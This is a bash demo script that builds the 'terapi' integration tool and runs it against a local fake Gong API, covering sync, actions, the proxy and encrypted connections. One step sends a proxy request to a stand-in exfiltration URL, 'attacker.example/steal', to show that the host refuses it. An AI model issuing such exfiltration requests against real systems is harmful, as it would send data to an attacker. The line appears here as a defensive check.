#!/usr/bin/env bash
# Builds terapi and runs it against a local fake Gong: verify, a paginated
# sync, actions, the proxy, and a request the host refuses. Nothing leaves
# this machine. To use a real Gong account instead, see README.md.
set -euo pipefail
cd "$(dirname "$0")/.."

if command -v rustup >/dev/null 2>&1 && ! rustup target list --installed | grep -qx wasm32-wasip2; then
    rustup target add wasm32-wasip2
fi
cargo build --release --locked -p terapi -p fake-gong

work=$(mktemp -d)
target/release/fake-gong --users 250 --calls 48 >"$work/url" &
fake=$!
trap 'kill $fake 2>/dev/null; rm -rf "$work"' EXIT
for _ in $(seq 50); do [ -s "$work/url" ] && break; sleep 0.1; done

# The demo's connections, records and master key live in a scratch data dir.
export TERAPI_DATA_DIR="$work/data"
# The fake listens on this machine's loopback, which terapi refuses unless
# the operator allows private egress (a real Gong needs no such switch).
export TERAPI_ALLOW_PRIVATE_EGRESS=1
export GONG_BASE_URL=$(cat "$work/url")
export GONG_ACCESS_KEY=demo-access-key
export GONG_ACCESS_KEY_SECRET=demo-access-key-secret
terapi=target/release/terapi
step() { printf '\n\033[1m$ terapi %s\033[0m\n' "$*"; }

step providers list;           $terapi providers list
step verify;                   $terapi verify
step sync list;                $terapi sync list
step sync run users --output users.ndjson
$terapi sync run users --output "$work/users.ndjson"
echo "first of $(wc -l <"$work/users.ndjson") records:"; head -n 1 "$work/users.ndjson"
step action run get-user --input '{"id":"7000000000000000007"}'
$terapi action run get-user --input '{"id":"7000000000000000007"}'
step action run list-calls --input '{"fromDateTime":"2024-05-01T00:00:00Z"}'
$terapi action run list-calls --input '{"fromDateTime":"2024-05-01T00:00:00Z"}' >"$work/calls.json"
echo "$(grep -o '"primaryUserId"' "$work/calls.json" | wc -l) calls; the answer begins: $(head -c 240 "$work/calls.json")…"
step proxy GET /v2/users/7000000000000000001
$terapi proxy GET /v2/users/7000000000000000001
step "proxy GET https://attacker.example/steal   (refused by the host)"
$terapi proxy GET https://attacker.example/steal || true
step "verify with a wrong secret"
GONG_ACCESS_KEY_SECRET=wrong $terapi verify || true
step "connection create demo   (verified with Gong, then saved encrypted)"
$terapi connection create demo
step "sync run users --connection demo   (stored page by page, resumable)"
$terapi sync run users --connection demo
step sync status --connection demo;  $terapi sync status --connection demo
step "records list GongUser --connection demo | head -n 2"
$terapi records list GongUser --connection demo | head -n 2
